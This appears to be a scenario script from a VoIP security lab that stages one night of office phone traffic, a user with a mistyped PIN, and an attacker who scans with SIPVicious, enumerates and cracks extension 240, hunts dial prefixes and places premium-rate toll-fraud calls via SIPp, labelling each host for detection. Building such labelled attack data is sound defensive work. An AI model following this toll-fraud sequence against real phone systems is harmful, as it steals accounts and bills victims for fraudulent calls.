"""The example that ships: one night of an office from the first probe to the bill."""

import asyncio
from typing import Final

from lab import baresip, sipp, tools
from lab.accounts import account
from lab.addresses import ATTACKER, ATTACKER_SECOND, office_phone
from lab.deskphone import Where
from lab.kamailio import Manners
from lab.labels import Call
from lab.makes import DESK
from lab.scenarios.office import a_few_calls, open_office
from lab.stage import Scenario, Stage, Thinning
from lab.tone import write_tone

_STOLEN: Final = account("240")
# Premium numbers reserved for drama (Ofcom) and a network without a country (+882 13).
_PREMIUM: Final = ("9011449098790115", "9011449098790162", "901188213000411")
_NOT_THROUGH: Final = ("00449098790115", "000449098790115", "011449098790115", "449098790115")
_CAMPAIGN: Final = "night of 3 October"


async def _night(stage: Stage) -> None:
    clock, processes, folder = stage.clock, stage.processes, stage.folder
    office = await open_office(stage, 10, tcp_every=5)
    await a_few_calls(stage, office, 6)
    clock.skip(6 * 3600)
    await _bad_pin(stage)
    stage.declare(
        ATTACKER, "attacker", "SIPVicious, then SIPp with the account it found",
        kinds=("scan", "enumeration", "password_guessing", "toll_fraud"),
        accounts=("240",), accounts_taken=("240",), campaign=_CAMPAIGN,
        calls_answered=tuple(Call(number) for number in _PREMIUM[:2]),
    )  # fmt: skip
    await tools.svmap(processes, folder, ATTACKER)
    clock.skip(40)
    await tools.svwar(processes, folder, ATTACKER, "230-255")
    clock.skip(95)
    await tools.svcrack(processes, folder, ATTACKER, "240", "2390-2500")
    clock.skip(1500)
    await _toll(stage)


async def _bad_pin(stage: Stage) -> None:
    """A colleague mistyped the password of his softphone before he went home."""
    address = office_phone(30)
    stage.declare(
        address, "innocent", "softphone with a bad PIN", accounts=("231",),
        in_trouble="bad PIN: wrong password for its own account, again and again",
    )  # fmt: skip
    phone = baresip.Softphone("office", address, "231", "1234")
    running = await baresip.start(stage.processes, stage.folder, phone)
    await asyncio.sleep(0.6)
    await stage.processes.stop(running)
    stage.clock.skip(320)
    again = await baresip.start(
        stage.processes, stage.folder, baresip.Softphone("office", address, "231", "1243")
    )
    await asyncio.sleep(0.5)
    await stage.processes.stop(again)
    stage.clock.skip(2400)


async def _toll(stage: Stage) -> None:
    """Prefixes are tried until one goes through; then the calls that cost."""
    write_tone(stage.folder / "tone.ulaw")
    credentials = f"[authentication username={_STOLEN.user} password={_STOLEN.password}]"
    agent = "sipcli/v1.8"
    hunted = [f"240;{credentials};{number};{agent};100" for number in _NOT_THROUGH]
    sipp_from = ["-i", ATTACKER, "-p", "5071", "-mi", ATTACKER, "-r", "2"]
    await sipp.place(stage.processes, stage.folder, "internet", "call", hunted, sipp_from)
    stage.clock.skip(30)
    for number, factor in zip(_PREMIUM[:2], (240, 170), strict=True):
        await _expensive(stage, number, ATTACKER, factor)
    stage.clock.skip(900)
    stage.declare(
        ATTACKER_SECOND, "attacker", "the same hand from another address",
        kinds=("toll_fraud",), accounts=("240",), accounts_taken=("240",),
        calls_answered=(Call(_PREMIUM[2]),), campaign=_CAMPAIGN,
    )  # fmt: skip
    await _expensive(stage, _PREMIUM[2], ATTACKER_SECOND, 300)
    stage.clock.skip(4 * 3600)
    early = await stage.plug_in(Where("office", office_phone(11)), "212", DESK[4])
    stage.declare(office_phone(11), "innocent", "desk phone of the early shift", accounts=("212",))
    await early.register()


async def _expensive(stage: Stage, number: str, source: str, factor: int) -> None:
    """One answered call; its 2.2 s of talk are written `factor` times as long."""
    credentials = f"[authentication username={_STOLEN.user} password={_STOLEN.password}]"
    line = f"240;{credentials};{number};sipcli/v1.8;2600"
    options = ["-i", source, "-p", "5071", "-mi", source]
    placed = asyncio.create_task(
        sipp.place(stage.processes, stage.folder, "internet", "call", [line], options)
    )
    await asyncio.sleep(1.0)
    with stage.clock.stretched(factor):
        await asyncio.sleep(2.0)
    await placed
    stage.clock.skip(20)


SCENARIOS: Final = (
    Scenario(
        "incident",
        "A night: office traffic, a user with a bad PIN, scan, enumeration, guessing that "
        "succeeds, prefix hunting, answered toll calls, and the attacker on a second address",
        _night,
        begins="2026-10-02T19:05:00+00:00",
        manners=Manners(leaky=True),
        thinning=Thinning(keep=12),
        example="attack",
    ),
)
